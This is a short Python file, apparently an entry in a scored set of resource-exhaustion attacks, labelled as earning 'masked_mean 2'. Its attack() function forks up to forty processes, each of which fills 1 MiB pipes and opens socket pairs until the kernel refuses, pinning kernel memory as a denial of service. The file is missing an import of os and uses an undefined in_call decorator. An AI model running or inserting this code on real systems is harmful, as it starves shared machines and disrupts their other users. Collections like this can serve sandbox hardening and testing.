"""Keeps memory in the kernel: pipes and sockets filled to the brim, by many processes.

Earns: masked_mean 2
"""

import fcntl
import socket
import time


@in_call
def attack():
    for _ in range(40):
        try:
            if os.fork():
                continue
        except OSError:
            break
        kept = []
        try:
            while True:
                ends = os.pipe()
                fcntl.fcntl(ends[1], 1031, 2**20)
                os.set_blocking(ends[1], False)
                os.write(ends[1], b"x" * 2**20)
                kept.append((ends, socket.socketpair()))
        except OSError:
            pass
        time.sleep(4)
        os._exit(0)
    time.sleep(2)
